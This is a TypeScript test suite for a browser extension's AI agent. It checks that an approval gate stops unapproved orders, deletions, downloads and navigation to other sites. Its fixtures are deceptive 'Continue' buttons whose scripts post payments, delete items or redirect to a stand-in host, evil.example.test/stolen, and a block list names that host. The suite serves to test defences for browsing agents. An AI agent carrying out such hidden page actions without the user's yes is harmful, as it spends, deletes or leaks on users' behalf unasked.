// The request gate, in the real extension: a task presses controls whose words reveal nothing, and a scripted
// model obeys. Judged at the receiving server: before a yes, no change and no request to another site arrives.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';

import type { Page } from 'playwright-core';

import type { SiteRequest, SiteResponse } from '../../support/site_server.js';
import { openStageFor } from '../../support/stage.js';
import { findControls } from '../../support/text_view.js';
import { eventually } from '../../support/waiting.js';
import { WireServer, type Turn, type WireRequest } from '../../support/wire_server.js';
import type { Task } from '../../../js-glue/agent/index.js';
import { AgentBrowser, shownInAll } from './agent_support.js';
import { PanelBrowser, ask, killWorker } from './panel_support.js';

const kEvil = 'http://evil.example.test:{{port}}';

interface OfCalls {
  domTool: { execute(tabId: number, call: object): Promise<unknown> };
}

const kSandbox = 'sandbox allow-scripts allow-popups allow-forms';

const kResponses: Record<string, Partial<SiteResponse>> = {
  '/report': { type: 'text/csv', headers: { 'content-disposition': 'attachment' } },
  '/archive': { type: 'application/zip' },
  '/table': { type: 'text/csv; charset=utf-8' },
  '/named': { type: 'text/plain', headers: { 'content-disposition': 'ATTACHMENT; filename="a.txt"' } },
  '/shown.txt': { type: 'text/plain', headers: { 'content-disposition': 'inline; filename="shown.txt"' } },
  '/data': { type: 'application/json; charset=utf-8', body: '{}' },
};

/** What reached a server, except the pages themselves. */
const received: string[] = [];
const pages = new Map<string, string>();

function handle({ method, host, path, query, body }: SiteRequest): SiteResponse | undefined {
  if (path === '/away')
    return { status: 302, headers: { location: `http://evil.example.test:${site.port}/stolen` }, body: '' };
  const page = pages.get(path);
  const headers = path.startsWith('/sandbox') ? { 'content-security-policy': kSandbox } : {};
  if (page !== undefined && method === 'GET' && host === 'home.test') return { body: page, headers };
  if (path === '/favicon.ico') return { status: 404, body: '' };
  received.push(`${method} ${host}${path}${query.size > 0 ? `?${query}` : ''}${body === '' ? '' : ` ${body}`}`);
  const response = kResponses[path];
  if (response !== undefined) return { body: 'a,b', ...response };
  return { body: '<title>Done</title><h1>Done</h1>' };
}

const { site, browser } = await openStageFor(() => PanelBrowser.launch({ mayDraw: false }), { handle });
const agent = new AgentBrowser(browser);
let script: Array<(request: WireRequest) => Turn> = [];
const kDone: Turn = { calls: [{ name: 'finish', input: { message: 'Done.' } }] };
const server = await WireServer.start('openai', [(request) => script.shift()?.(request) ?? kDone]);
after(() => server.close());
await agent.useModel(server);

const press =
  (name = 'Continue', action: 'click' | 'enter' = 'click') =>
  (request: WireRequest): Turn => {
    const [control] = findControls(shownInAll(request), new RegExp(`^${name}$`));
    const nodeId = control?.id ?? `no ${name} was shown`;
    const input = action === 'click' ? { nodeId } : { nodeId, key: 'Enter' };
    return { text: 'It is the next step.', calls: [{ name: action === 'click' ? 'click' : 'keypress', input }] };
  };

interface Ended {
  task: Task;
  asked: string[];
  title: string;
  /** The addresses of files that the browser saves; appended later. */
  saved: readonly string[];
}

const isSaved = (sends: string): boolean => /\/(?:report|archive|table|named)(?:\?|$)/.test(sends);

async function run(
  controls: string,
  steps: Array<(request: WireRequest) => Turn>,
  yes: boolean,
  kind: 'page' | 'sandbox' = 'page',
): Promise<Ended> {
  const path = `/${kind}-${pages.size}`;
  pages.set(path, `<title>Form</title><h1>Form</h1>${controls}`);
  received.length = 0;
  script = steps;
  const saved: string[] = [];
  const follow = (page: Page): unknown => page.on('download', (file) => saved.push(new URL(file.url()).pathname));
  const { page, tabId } = await browser.openPage(site.url(path, 'home.test'));
  follow(page);
  browser.context.on('page', follow);
  await agent.start(tabId, 'Go on with this form');
  const { task, asked } = await agent.ended(tabId, yes);
  browser.context.off('page', follow);
  const title = await page.title();
  for (const one of browser.context.pages()) if (one !== page && /evil|Done/.test(one.url())) await one.close();
  await page.close();
  return { task, asked, title, saved };
}

const button = (script: string): string => `<button onclick="${script}">Continue</button>`;

/** Controls with meaningless words, what they send, and what the question must say. */
const kActions: ReadonlyArray<[name: string, controls: string, sends: string, question: RegExp]> = [
  [
    'a script that orders',
    button(
      "fetch('/orders', {method: 'POST', body: new URLSearchParams({item: 'tea', amount: '57.60', address: 'x'})})",
    ),
    'POST home.test/orders item=tea&amount=57.60&address=x',
    /POST home\.test:?\d*\/orders \(3 fields: item, amount 57\.60, address\)\? This may pay or order/,
  ],
  [
    'a request that deletes',
    button("const x = new XMLHttpRequest(); x.open('DELETE', '/items/7'); x.send()"),
    'DELETE home.test/items/7',
    /DELETE home\.test:?\d*\/items\/7\? This may delete or cancel something/,
  ],
  [
    'a form',
    '<form method=post action=/transfer><input type=hidden name=sum value=9><button>Continue</button></form>',
    'POST home.test/transfer sum=9',
    /POST home\.test:?\d*\/transfer/,
  ],
  [
    'a form into a frame',
    '<iframe name=f></iframe><form method=post action=/x1 target=f><input type=hidden name=a value=1><button>Continue</button></form>',
    'POST home.test/x1 a=1',
    /POST home\.test:?\d*\/x1 \(1 field: a\)\? This may change something/,
  ],
  [
    'a form into a new tab',
    '<form method=post action=/x2 target=_blank><input type=hidden name=a value=1><button>Continue</button></form>',
    'POST home.test/x2 a=1',
    /home\.test:?\d*\/x2/,
  ],
  [
    'a form to a long address into a new tab',
    `<form method=post action=/x2/${'0123456789'.repeat(30)}?b=*|^ target=_blank><input type=hidden name=a value=1><button>Continue</button></form>`,
    `POST home.test/x2/${'0123456789'.repeat(30)}?b=*%7C%5E a=1`,
    /home\.test:?\d*\/x2\/0123/,
  ],
  [
    'an unknown interface',
    button("fetch('/api/a7', {method: 'PUT', body: '{}'})"),
    'PUT home.test/api/a7 {}',
    /PUT home\.test:?\d*\/api\/a7\? This may change something/,
  ],
  [
    'a link that unsubscribes',
    '<a href="/unsubscribe?id=4">Continue</a>',
    'GET home.test/unsubscribe?id=4',
    /unsubscribe/,
  ],
  ['another site by a script', button(`location = '${kEvil}/stolen'`), 'GET evil.example.test/stolen', /example\.test/],
  [
    'another site a moment later',
    button(`setTimeout(() => location = '${kEvil}/stolen', 100)`),
    'GET evil.example.test/stolen',
    /example\.test/,
  ],
  ['another site by a redirect', '<a href=/away>Continue</a>', 'GET evil.example.test/stolen', /example\.test/],
  [
    'another site in a new tab',
    button(`window.open('${kEvil}/stolen')`),
    'GET evil.example.test/stolen',
    /example\.test/,
  ],
  [
    'another site in a new tab by a redirect',
    button("window.open('/away')"),
    'GET evil.example.test/stolen',
    /example\.test/,
  ],
  ['a file', '<a href=/report>Continue</a>', 'GET home.test/report', /downloads a file/],
  [
    'a file in a new tab',
    '<a href=/report target=_blank>Continue</a>',
    'GET home.test/report',
    /GET home\.test:?\d*\/report\? This downloads a file/,
  ],
  ['a file by its type in a new tab', button("window.open('/archive')"), 'GET home.test/archive', /downloads a file/],
  [
    'a table in a new tab without an opener',
    button("window.open('/table', '_blank', 'noopener')"),
    'GET home.test/table',
    /downloads a file/,
  ],
  [
    'a file in a tab that is opened empty',
    button("const w = window.open(); setTimeout(() => w.location = '/named', 100)"),
    'GET home.test/named',
    /downloads a file/,
  ],
  [
    'a beacon that deletes',
    button("navigator.sendBeacon('/account/delete', 'x')"),
    'POST home.test/account/delete x',
    /POST home\.test:?\d*\/account\/delete/,
  ],
  [
    'a frame in a sandbox that orders',
    `<script type=text/plain id=s>fetch('http://home.test:{{port}}/orders', {method: 'POST', body: 'x', mode: 'no-cors'})</script>
      <script>function bring() { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
        f.src = URL.createObjectURL(new Blob(['<script>' + s.textContent + '</' + 'script>'], { type: 'text/html' }));
        document.body.append(f) }</script>${button('bring()')}`,
    'POST home.test/orders x',
    /POST home\.test:?\d*\/orders/,
  ],
];

for (const [name, controls, sends, question] of kActions) {
  test(`${name}: not before a yes`, async () => {
    const { task, asked, saved } = await run(controls, [press()], false);
    // A download is recognized by its response.
    const isFile = isSaved(sends);
    assert.deepEqual(
      received.filter((one) => one === sends && !isFile),
      [],
    );
    assert.deepEqual(saved, []);
    assert.equal(asked.length, 1, JSON.stringify(task));
    assert.match(asked[0] ?? '', question);
    assert.equal(task.status, 'success');
  });

  test(`${name}: a yes sends it`, async () => {
    const { task, asked, saved } = await run(controls, [press()], true);
    assert.equal(asked.length, 1, JSON.stringify(task));
    await eventually('it was sent', () => received.includes(sends), 5_000).catch(() => {});
    assert.ok(received.filter((one) => one === sends).length >= 1, JSON.stringify([received, task]));
    if (isSaved(sends)) await eventually('it was saved', () => saved.length === 1, 5_000);
    else assert.equal(received.filter((one) => one === sends).length, 1, received.join());
  });
}

/** What a new tab would request, if its opener counts as no site. */
const kOutOfSandbox: ReadonlyArray<[name: string, controls: string]> = [
  ['opens a tab of another site', button(`window.open('${kEvil}/stolen')`)],
  [
    'sends a form into a new tab',
    '<form method=post action=/x2 target=_blank><input type=hidden name=a value=1><button>Continue</button></form>',
  ],
];

for (const [name, controls] of kOutOfSandbox) {
  test(`a page that its server has put into a sandbox ${name}: nothing without a yes`, async () => {
    const { task, asked } = await run(controls, [press()], false, 'sandbox');
    assert.deepEqual(received, []);
    assert.equal(asked.length, 1, JSON.stringify(task));
  });
}

test('a tab that is opened empty and led to another site a moment later: nothing without a yes', async () => {
  const opens = button(`const w = window.open(); setTimeout(() => w.location = '${kEvil}/stolen', 100)`);
  const { task, asked } = await run(opens, [press()], false);
  assert.deepEqual(received, []);
  assert.equal(asked.length, 1, JSON.stringify(task));
});

/** Everyday controls: nobody is asked. */
const kEveryday: ReadonlyArray<[name: string, controls: string]> = [
  ['a link of the own site', '<a href=/page-x>Continue</a>'],
  ['a script that reads', button("fetch('/api/items')")],
  ['a search by POST', button("fetch('/api/search', {method: 'POST', body: '{}'})")],
  [
    'a query of GraphQL',
    button(
      "fetch('/graphql', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({query: 'query Items { items { id } }'})})",
    ),
  ],
  ['a beacon', button("navigator.sendBeacon('/track', 'x')")],
  ['a log', button("fetch('/log', {method: 'POST', body: 'x'})")],
  ['a form that searches', '<form action=/find><input type=hidden name=q value=tea><button>Continue</button></form>'],
  ['a new tab of the own site', '<a href=/page-x target=_blank>Continue</a>'],
  ['a text that a new tab shows', '<a href=/shown.txt target=_blank>Continue</a>'],
  ['data that a new tab shows', button("window.open('/data')")],
  [
    'a frame of another site that comes along',
    button(`document.body.insertAdjacentHTML('beforeend', '<iframe src=&quot;${kEvil}/ad&quot;></iframe>')`),
  ],
  [
    'what the page polls',
    `<script>setInterval(() => fetch('/api/a8', {method: 'POST', body: 'x'}), 100)</script>${button('0')}`,
  ],
];

for (const [name, controls] of kEveryday) {
  test(`${name}: nobody is asked`, async () => {
    const { task, asked } = await run(controls, [press()], false);
    assert.deepEqual([task.status, asked], ['success', []], JSON.stringify(task));
  });
}

test('a yes to the words of a control is one to what it sends, and is asked once', async () => {
  const pay = `<button onclick="fetch('/orders', {method: 'POST', body: 'x'})">Pay now</button>`;
  const { asked, task } = await run(pay, [press('Pay now')], true);
  assert.equal(asked.length, 1, JSON.stringify(task));
  assert.deepEqual(received, ['POST home.test/orders x']);
});

test('a yes to the words of a control is one to the form that it sends into a new tab', async () => {
  const pay =
    '<form method=post action=/orders target=_blank><input type=hidden name=a value=1><button>Pay now</button></form>';
  const { asked, task } = await run(pay, [press('Pay now')], true);
  assert.deepEqual(received, ['POST home.test/orders a=1'], JSON.stringify(task));
  assert.equal(asked.length, 1, JSON.stringify(asked));
});

test('a form into a new tab that a file answers: it is saved only after the question that names the file', async () => {
  const form = '<form action=/table target=_blank><input type=hidden name=a value=1><button>Continue</button></form>';
  const refused = await run(form, [press()], false);
  assert.deepEqual([refused.asked.length, refused.saved], [1, []], JSON.stringify(refused.task));
  const { asked, saved, task } = await run(form, [press()], true);
  assert.match(asked.at(-1) ?? '', /GET home\.test:?\d*\/table.*downloads a file/, JSON.stringify(task));
  await eventually('it was saved', () => saved.length === 1, 5_000);
});

test('a yes to the words of a control is none to another site', async () => {
  const pay = `<button onclick="location = '${kEvil}/stolen'">Pay now</button>`;
  const { asked, task } = await run(pay, [press('Pay now')], true);
  assert.equal(asked.length, 2, JSON.stringify(task));
  assert.match(asked[1] ?? '', /example\.test/);
});

test('a yes holds for the same request in this task', async () => {
  const { asked, task } = await run(button("fetch('/api/a7', {method: 'PUT', body: '{}'})"), [press(), press()], true);
  assert.equal(asked.length, 1, JSON.stringify(task));
  assert.equal(received.length, 2);
});

test('after a no the same by another button, a key or a form is refused without a question', async () => {
  const order = "fetch('/orders', {method: 'POST', body: 'x'})";
  const controls = `<button onclick="${order}">Continue</button><button onclick="${order}">Next</button>
    <form method=post action=/orders/new><input type=hidden name=a><button>Onward</button></form>`;
  const { asked, task } = await run(
    controls,
    [press(), press('Next'), press('Continue', 'enter'), press('Onward')],
    false,
  );
  assert.equal(asked.length, 1, JSON.stringify(asked));
  assert.deepEqual(received, []);
  assert.ok(
    task.messages.some(({ content }) => /said no/.test(content)),
    JSON.stringify(task.messages),
  );
});

for (const action of ['click', 'enter'] as const) {
  test(`what was asked about is weighed again after the answer (${action}): a form that leads elsewhere by then`, async () => {
    const controls = `<form id=f method=post action=/transfer><input type=hidden name=sum value=9><button>Pay now</button></form>`;
    const path = `/page-${pages.size}`;
    pages.set(path, `<title>Form</title>${controls}`);
    received.length = 0;
    script = [press('Pay now', action)];
    const { page, tabId } = await browser.openPage(site.url(path, 'home.test'));
    await agent.start(tabId, 'Go on with this form');
    const waiting = (words: RegExp) =>
      eventually('the person is asked', async () => {
        const task = await agent.get(tabId);
        return task?.pending !== undefined && words.test(task.pending.text) ? task : undefined;
      });
    await waiting(/pay or order/);
    await page.evaluate(`f.action = '${kEvil.replace('{{port}}', String(site.port))}/stolen'`);
    await agent.approve(tabId, true);
    await waiting(/example\.test/);
    assert.deepEqual(received, []);
    const { task } = await agent.ended(tabId, false);
    assert.equal(task.status, 'success');
    assert.deepEqual(received, []);
    await page.close();
  });
}

test('a site that is blocked gets nothing, whatever is set otherwise', async () => {
  await agent.set({ ask: 'never', blockedSites: ['evil.example.test'] });
  try {
    for (const script of [
      `location = '${kEvil}/stolen'`,
      `fetch('${kEvil}/stolen', {method: 'POST'})`,
      `window.open('${kEvil}/stolen')`,
      `navigator.sendBeacon('${kEvil}/stolen', 'x')`,
    ]) {
      const { task, asked } = await run(button(script), [press()], true);
      assert.deepEqual([task.status, asked, received], ['success', [], []], script);
    }
  } finally {
    await agent.set({ ask: 'risky', blockedSites: [] });
  }
});

/** What the second press does to the window that the first one opened. */
const kWindows: ReadonlyArray<[name: string, controls: string, sends: string]> = [
  ['its address is set', button(`w.location = '${kEvil}/stolen'`), 'GET evil.example.test/stolen'],
  ['its address is replaced', button(`w.location.replace('${kEvil}/stolen')`), 'GET evil.example.test/stolen'],
  ['a script opens its name', button(`window.open('${kEvil}/stolen', 'own')`), 'GET evil.example.test/stolen'],
  ['a link has its name', `<a href="${kEvil}/stolen" target=own>Continue</a>`, 'GET evil.example.test/stolen'],
  ['the own site redirects it', button("w.location = '/away'"), 'GET evil.example.test/stolen'],
  [
    'a form has its name',
    '<form method=post action=/x3 target=own><input type=hidden name=a value=1><button>Continue</button></form>',
    'POST home.test/x3 a=1',
  ],
];

for (const [name, controls, sends] of kWindows) {
  for (const yes of [false, true]) {
    test(`a window that an earlier action opened, ${name}: ${yes ? 'a yes sends it' : 'nothing without a yes'}`, async () => {
      pages.set('/own-window', '<title>Own</title><h1>Own</h1>');
      const path = `/page-${pages.size}`;
      const opens = `<button onclick="w = window.open('/own-window', 'own', 'width=300,height=300')">Open</button>`;
      pages.set(path, `<title>Form</title><h1>Form</h1>${opens}${controls}`);
      received.length = 0;
      const { page, tabId } = await browser.openPage(site.url(path, 'home.test'));
      const call = (one: object) =>
        browser.worker.evaluate(
          ([id, given]) => (self as unknown as OfCalls).domTool.execute(id as number, given as object),
          [tabId, one],
        );
      const shown = (await call({ action: 'get_dom' })) as { data: { content: string } };
      const [opener] = findControls(shown.data.content, /^Open$/);
      // The task stays in its tab.
      await call({ action: 'click', nodeId: opener?.id });
      const own = await eventually('the window is there', () =>
        browser.context.pages().find((one) => one.url().endsWith('/own-window')),
      );
      await own.evaluate(() => (document.title = 'written here'));
      script = [press()];
      await agent.start(tabId, 'Go on with this form');
      const { task, asked } = await agent.ended(tabId, yes);
      assert.equal(asked.length, 1, JSON.stringify(task));
      if (yes) {
        await eventually('it was sent', () => received.includes(sends));
        assert.equal(received.filter((one) => one === sends).length, 1);
      } else {
        assert.deepEqual(received, []);
        assert.equal(await own.title(), 'written here', 'the window stays as it was');
      }
      await eventually('the window is let go', async () => {
        const stored = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
        return JSON.stringify(stored) === '{"domtool.windows":[]}';
      });
      await own.close();
      await page.close();
    });
  }
}

test('the window that opened the page is held', async () => {
  pages.set('/opener', `<title>Opener</title><h1>Opener</h1>`);
  const path = `/page-${pages.size}`;
  pages.set(path, `<title>Form</title>${button(`opener.location = '${kEvil}/stolen'`)}`);
  received.length = 0;
  const { page } = await browser.openPage(site.url('/opener', 'home.test'));
  const comes = browser.context.waitForEvent('page');
  await page.evaluate((to) => void window.open(to), path);
  const child = await comes;
  await child.waitForLoadState();
  const tabId = await browser.worker.evaluate(
    async (end) => (await chrome.debugger.getTargets()).find(({ url }) => url.endsWith(end))?.tabId,
    path,
  );
  script = [press()];
  await agent.start(tabId ?? 0, 'Go on with this form');
  const { asked, task } = await agent.ended(tabId ?? 0, false);
  assert.equal(asked.length, 1, JSON.stringify(task));
  assert.deepEqual(received, []);
  assert.equal(await page.title(), 'Opener');
  await child.close();
  await page.close();
});

test('nothing is held between the actions, and no rule is left', async () => {
  await run(button('0'), [press()], true);
  const rules = await browser.worker.evaluate(() => chrome.declarativeNetRequest.getSessionRules());
  assert.deepEqual(rules, []);
});

test('requests that a worker held when it ended are not sent by the next one, and the page goes on', async () => {
  pages.set('/held', '<title>Held</title><h1>Held</h1>');
  const { page, tabId } = await browser.openPage(site.url('/held', 'home.test'));
  const panel = await browser.openPanel(tabId);
  const look = () => ask(panel, { type: 'domtool.execute', tabId, call: { action: 'get_dom' } });
  await look();
  received.length = 0;
  // Simulates the moment between a request and its decision, which is too short to end a worker in.
  await browser.worker.evaluate(async (id) => {
    await chrome.storage.session.set({ [`domtool.hold.${id}`]: true });
    await chrome.debugger.sendCommand({ tabId: id }, 'Fetch.enable', {
      patterns: [{ resourceType: 'Fetch' }, { resourceType: 'XHR' }],
    });
  }, tabId);
  const post = (path: string): Promise<void> =>
    page.evaluate((to) => {
      fetch(to, { method: 'POST' }).then(
        () => (document.title = `sent ${to}`),
        () => (document.title = `not sent ${to}`),
      );
    }, path);
  await post('/one');
  await killWorker(browser, panel);
  await look();
  await eventually('the request has ended', async () => (await page.title()) === 'not sent /one');
  await post('/two');
  await eventually('the next is sent', async () => (await page.title()) === 'sent /two');
  assert.deepEqual(received, ['POST home.test/two']);
  await panel.close();
  await page.close();
});

test('a window that a worker held when it ended is let go by the next one, and nothing of it is sent', async () => {
  pages.set('/held-window', '<title>Window</title><h1>Window</h1>');
  const { page, tabId } = await browser.openPage(site.url('/held-window', 'home.test'));
  const panel = await browser.openPanel(tabId);
  received.length = 0;
  await browser.worker.evaluate(async (id) => {
    await chrome.storage.session.set({ 'domtool.windows': [id] });
    await chrome.debugger.attach({ tabId: id }, '1.3');
    await chrome.debugger.sendCommand({ tabId: id }, 'Fetch.enable', { patterns: [{ resourceType: 'Document' }] });
  }, tabId);
  const isRequested = page.waitForRequest(/held-document/);
  await page.evaluate(() => location.assign('/held-document'));
  await isRequested;
  await killWorker(browser, panel);
  // Any message starts the next worker.
  await ask(panel, { type: 'domtool.none' });
  await eventually('the next worker has let go', async () => {
    const stored = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
    return Object.keys(stored).length === 0;
  });
  // Playwright returns no title until it knows that the other document was not loaded.
  await eventually('the page stays and answers', async () => (await page.title()) === 'Window');
  assert.deepEqual(received, []);
  await page.goto(site.url('/next-document', 'home.test'));
  assert.deepEqual(received, ['GET home.test/next-document']);
  await panel.close();
  await page.close();
});
